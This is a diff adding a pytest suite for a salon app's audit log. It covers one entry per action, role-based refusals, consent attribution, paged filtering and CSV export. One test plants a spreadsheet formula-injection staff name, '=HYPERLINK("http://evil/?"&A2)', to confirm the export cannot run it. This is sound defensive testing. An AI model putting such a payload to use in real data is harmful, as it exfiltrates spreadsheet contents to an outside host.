@@ -1,0 +1,313 @@
+"""The audit log (issue 12): every audited action leaves exactly one entry, a refused one
+none; the owner reads it filtered and a page at a time, and as CSV a spreadsheet cannot
+run; and who declared consent is the member who acts. SQLite and PostgreSQL."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Callable
+from datetime import timedelta
+
+import pytest
+from sqlalchemy import select
+
+from desk_app.db import models as m
+from desk_app.domain.access import SHARED_COUNTER, Actor
+from desk_app.domain.campaigns import CampaignType, ChannelChoice
+from desk_app.domain.enums import AuditAction, Channel, ConsentSource, Permission, StaffRole
+from desk_app.domain.errors import InvalidField, NotPermitted, WrongPin
+from desk_app.services.audit import AuditFilter, AuditRow
+from desk_app.services.campaign_rows import CampaignDraft
+from desk_app.services.container import Services
+from desk_app.services.rows import CustomerRow
+from desk_app.services.salon_setup import SalonSettingsInput
+from tests.conftest import Clock
+from tests.services.staff_support import PINS, Team, make_team
+from tests.services.support import add_customer, ledger_rows
+
+A = AuditAction
+DRAFT = CampaignDraft(
+    name="Winteraktion",
+    type=CampaignType.PROMOTION,
+    channel=ChannelChoice.EMAIL,
+    subject="Winter bei {{ salon_name }}",
+    body="Hallo {{ first_name }}, 20 % auf Pflege bis Freitag.",
+)
+
+
+@pytest.fixture
+def team(services: Services) -> Team:
+    return make_team(services)
+
+
+@pytest.fixture
+def anna(services: Services) -> CustomerRow:
+    return add_customer(services)
+
+
+def _entries(services: Services) -> list[AuditRow]:
+    with services.db.read() as s:
+        return [
+            AuditRow(
+                e.id, e.at, e.member_id, e.member_name, StaffRole(e.member_role),
+                A(e.action), e.subject, dict(e.details),
+            )
+            for e in s.scalars(select(m.AuditEntry).order_by(m.AuditEntry.id))
+        ]  # fmt: skip
+
+
+def _new_entries(services: Services, act: Callable[[], object]) -> list[AuditRow]:
+    before = len(_entries(services))
+    act()
+    return _entries(services)[before:]
+
+
+def _one(services: Services, act: Callable[[], object]) -> AuditRow:
+    [entry] = _new_entries(services, act)
+    return entry
+
+
+# ---- exactly one entry per action -----------------------------------------------------------
+def test_signing_in_and_a_wrong_pin_leave_one_entry_each(services: Services, team: Team) -> None:
+    member = team.reception.member_id or 0
+    entry = _one(services, lambda: services.staff_access.sign_in(member, PINS["reception"]))
+    assert (entry.action, entry.member_id, entry.subject) == (
+        A.SIGNED_IN,
+        member,
+        f"staff:{member}",
+    )
+
+    def wrong() -> None:
+        with pytest.raises(WrongPin):
+            services.staff_access.sign_in(member, "0000")
+
+    entry = _one(services, wrong)  # committed although the sign-in failed
+    assert (entry.action, entry.member_name, entry.details) == (
+        A.SIGN_IN_FAILED,
+        "Tanja Groß",
+        {"reason": "wrong_pin"},
+    )
+
+
+def test_consent_declared_revoked_and_objected_leave_one_entry_each(
+    services: Services, team: Team, anna: CustomerRow
+) -> None:
+    both = [Channel.EMAIL, Channel.SMS]
+    entry = _one(
+        services,
+        lambda: services.consent.declare(
+            anna.id, both, ConsentSource.PHONE, None, True, actor=team.reception
+        ),
+    )
+    assert (entry.action, entry.member_id, entry.subject) == (
+        A.CONSENT_DECLARED,
+        team.reception.member_id,
+        f"customer:{anna.id}",
+    )
+    assert entry.details["channels"] == ["email", "sms"] and entry.details["staff"] == "Tanja Groß"
+    entry = _one(
+        services,
+        lambda: services.consent.revoke(anna.id, both, ConsentSource.PHONE, None, actor=team.owner),
+    )
+    assert (entry.action, entry.member_name) == (A.CONSENT_REVOKED, "Sabine Müller")
+    entry = _one(
+        services,
+        lambda: services.consent.record_objection(
+            anna.id, ConsentSource.PHONE, None, actor=team.reception
+        ),
+    )
+    assert entry.action is A.OBJECTION_RECORDED
+
+
+def test_an_export_and_an_erasure_leave_one_entry_each(
+    services: Services, team: Team, anna: CustomerRow
+) -> None:
+    entry = _one(services, lambda: services.privacy.export(anna.id, actor=team.manager))
+    assert (entry.action, entry.member_id, entry.subject) == (
+        A.CUSTOMER_EXPORTED,
+        team.manager.member_id,
+        f"customer:{anna.id}",
+    )
+    entry = _one(services, lambda: services.privacy.erase(anna.id, None, actor=team.owner))
+    assert (entry.action, entry.subject) == (A.CUSTOMER_ERASED, f"customer:{anna.id}")
+    assert entry.details["erased_by"] == "Sabine Müller"
+    assert services.privacy.erasure(anna.id).staff == "Sabine Müller"  # type: ignore[union-attr]
+
+
+def test_a_campaign_send_leaves_one_entry_and_names_its_author(
+    services: Services, team: Team, anna: CustomerRow
+) -> None:
+    entry = _one(services, lambda: services.campaigns.send(DRAFT, actor=team.manager))
+    assert (entry.action, entry.member_name) == (A.CAMPAIGN_SENT, "Murat Kaya")
+    assert entry.details["name"] == "Winteraktion" and entry.details["channel"] == "email"
+    with services.db.read() as s:
+        campaign = s.scalars(select(m.Campaign)).one()
+        assert entry.subject == f"campaign:{campaign.id}"
+        assert campaign.created_by == "Murat Kaya"
+
+
+def test_settings_changes_leave_one_entry_per_saving(services: Services, team: Team) -> None:
+    entry = _one(
+        services,
+        lambda: services.catalogue.set_settings(
+            {"salon_name": "Haarwerk", "owner_mobile": "0151 12345678"}, actor=team.owner
+        ),
+    )
+    assert entry.action is A.SETTINGS_CHANGED
+    # The values as stored, but not a person's contact data.
+    assert entry.details == {"changed": {"owner_mobile": "…", "salon_name": "Haarwerk"}}
+    profile = SalonSettingsInput("Haarwerk Köln", "", "Europe/Berlin", "")
+    entry = _one(services, lambda: services.salon_setup.save(profile, actor=team.manager))
+    assert entry.action is A.SETTINGS_CHANGED
+    assert entry.details["changed"]["salon_name"] == "Haarwerk Köln"  # type: ignore[index]
+
+
+def test_staff_changes_leave_one_entry_each(services: Services, team: Team) -> None:
+    added = _one(
+        services,
+        lambda: services.catalogue.add_staff("Lena", StaffRole.STYLIST, actor=team.manager),
+    )
+    assert (added.action, added.details) == (A.STAFF_ADDED, {"member": "Lena", "role": "stylist"})
+    lena = int(added.subject.removeprefix("staff:"))
+    pin = _one(services, lambda: services.staff_access.set_pin(team.owner, lena, "8642"))
+    assert (pin.action, pin.details) == (A.PIN_SET, {"member": "Lena"})
+    role = _one(
+        services, lambda: services.staff_access.set_role(team.owner, lena, StaffRole.RECEPTION)
+    )
+    assert (role.action, role.details["from"], role.details["to"]) == (
+        A.STAFF_ROLE_CHANGED,
+        "stylist",
+        "reception",
+    )
+    active = _one(
+        services, lambda: services.salon_setup.set_staff_active(lena, False, actor=team.owner)
+    )
+    assert (active.action, active.details) == (
+        A.STAFF_ACTIVE_CHANGED,
+        {"member": "Lena", "active": False},
+    )
+
+
+# ---- the services refuse, and a refusal writes nothing --------------------------------------
+def test_reception_is_refused_every_sensitive_action_with_its_name(
+    services: Services, team: Team, anna: CustomerRow
+) -> None:
+    reception, member = team.reception, team.reception.member_id or 0
+    cat, setup, privacy = services.catalogue, services.salon_setup, services.privacy
+    profile = SalonSettingsInput("X", "", "Europe/Berlin", "")
+    attempts: list[tuple[Permission, Callable[[], object]]] = [
+        (Permission.SEND_CAMPAIGNS, lambda: services.campaigns.send(DRAFT, actor=reception)),
+        (Permission.EXPORT_DATA, lambda: privacy.export(anna.id, actor=reception)),
+        (Permission.ERASE_CUSTOMERS, lambda: privacy.erase(anna.id, None, actor=reception)),
+        (Permission.CHANGE_SETTINGS, lambda: cat.set_setting("salon_name", "X", actor=reception)),
+        (Permission.CHANGE_SETTINGS, lambda: setup.save(profile, actor=reception)),
+        (Permission.MANAGE_STAFF, lambda: cat.add_staff("Y", StaffRole.STYLIST, actor=reception)),
+        (Permission.MANAGE_STAFF, lambda: setup.set_staff_active(member, False, actor=reception)),
+        (Permission.VIEW_AUDIT, lambda: services.audit.entries(reception)),
+    ]
+    for permission, attempt in attempts:
+
+        def refused(
+            attempt: Callable[[], object] = attempt, wanted: Permission = permission
+        ) -> None:
+            with pytest.raises(NotPermitted) as error:
+                attempt()
+            assert error.value == NotPermitted(wanted, StaffRole.RECEPTION)
+
+        assert _new_entries(services, refused) == [], permission
+    assert services.campaigns.campaigns() == []
+    assert services.privacy.erasure(anna.id) is None
+    assert services.catalogue.salon_settings().salon_name != "X"
+
+
+def test_a_stylist_may_not_record_consent(
+    services: Services, team: Team, anna: CustomerRow
+) -> None:
+    with pytest.raises(NotPermitted) as refused:
+        services.consent.declare(
+            anna.id, [Channel.EMAIL], ConsentSource.PHONE, None, True, actor=team.stylist
+        )
+    assert refused.value == NotPermitted(Permission.RECORD_CONSENT, StaffRole.STYLIST)
+    assert ledger_rows(services.db, anna.id) == []
+
+
+def test_the_shared_sign_in_is_refused_once_the_salon_signs_in_personally(
+    services: Services, team: Team, anna: CustomerRow
+) -> None:
+    services.catalogue.set_setting("staff_sign_in", "on", actor=team.owner)
+    with pytest.raises(NotPermitted) as refused:
+        services.privacy.export(anna.id, actor=SHARED_COUNTER)
+    assert refused.value == NotPermitted(Permission.EXPORT_DATA, None)
+    with pytest.raises(NotPermitted):  # the consent default is the shared sign-in too
+        services.consent.declare(anna.id, [Channel.EMAIL], ConsentSource.PHONE, "Tanja Groß", True)
+    assert services.privacy.export(anna.id, actor=team.owner)["customer"]
+
+
+# ---- who declared consent --------------------------------------------------------------------
+def test_the_ledger_names_the_acting_member_and_no_one_else(
+    services: Services, team: Team, anna: CustomerRow
+) -> None:
+    services.consent.declare(
+        anna.id, [Channel.EMAIL], ConsentSource.PHONE, None, True, actor=team.reception
+    )
+    assert [row.staff for row in ledger_rows(services.db, anna.id)] == ["Tanja Groß"]
+    with pytest.raises(InvalidField) as refused:
+        services.consent.revoke(
+            anna.id, [Channel.EMAIL], ConsentSource.PHONE, "Sabine Müller", actor=team.reception
+        )
+    assert (refused.value.problem, refused.value.value) == ("not_signed_in_member", "Sabine Müller")
+    services.consent.revoke(
+        anna.id, [Channel.EMAIL], ConsentSource.PHONE, "Tanja Groß", actor=team.reception
+    )
+    assert [row.staff for row in ledger_rows(services.db, anna.id)] == ["Tanja Groß"] * 2
+
+
+def test_with_the_shared_sign_in_the_ledger_names_who_the_dialog_asked(
+    services: Services, team: Team, anna: CustomerRow
+) -> None:
+    services.consent.declare(anna.id, [Channel.SMS], ConsentSource.IN_PERSON, "Jörg Weiß", True)
+    [row] = ledger_rows(services.db, anna.id)
+    assert row.staff == "Jörg Weiß"
+    entry = _entries(services)[-1]
+    assert (entry.member_id, entry.member_name, entry.details["staff"]) == (None, "", "Jörg Weiß")
+
+
+# ---- reading the log --------------------------------------------------------------------------
+def test_the_owner_reads_the_log_filtered_and_page_by_page(
+    services: Services, team: Team, clock: Clock
+) -> None:
+    start = clock.now
+    for n in range(5):
+        clock.advance(minutes=1)
+        services.catalogue.set_setting("frequency_cap", str(n + 1), actor=team.manager)
+    member = team.manager.member_id
+    where = AuditFilter(member_id=member, action=A.SETTINGS_CHANGED)
+    first = services.audit.entries(team.owner, where, limit=2)
+    second = services.audit.entries(team.owner, where, first.next_before_id, limit=2)
+    third = services.audit.entries(team.owner, where, second.next_before_id, limit=2)
+    caps = [r.details["changed"]["frequency_cap"] for p in (first, second, third) for r in p.rows]  # type: ignore[index]
+    assert caps == ["5", "4", "3", "2", "1"] and third.next_before_id is None
+    window = AuditFilter(since=start + timedelta(minutes=2), until=start + timedelta(minutes=4))
+    rows = services.audit.entries(team.owner, window).rows
+    assert [r.details["changed"]["frequency_cap"] for r in rows] == ["3", "2"]  # type: ignore[index]
+    signed_in = services.audit.entries(team.owner, AuditFilter(action=A.SIGNED_IN)).rows
+    assert len(signed_in) == 4  # the team signed in once each
+    forged = Actor(member, "Murat Kaya", StaffRole.OWNER)  # the stored role counts
+    with pytest.raises(NotPermitted):
+        services.audit.entries(forged)
+
+
+def test_the_csv_export_cannot_run_as_a_formula(services: Services, team: Team) -> None:
+    services.catalogue.add_staff(
+        '=HYPERLINK("http://evil/?"&A2)', StaffRole.STYLIST, actor=team.owner
+    )
+    out = io.StringIO()
+    count = services.audit.export_csv(team.owner, AuditFilter(action=A.STAFF_ADDED), out)
+    header, *rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
+    assert count == len(rows) == 5 and header[0] == "id"
+    cells = [cell for row in rows for cell in row]
+    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells)
+    assert any(cell.startswith("{") and "HYPERLINK" in cell for cell in cells)  # in the JSON
+    subjects = {row[6] for row in rows}
+    assert all(s.startswith("staff:") for s in subjects)
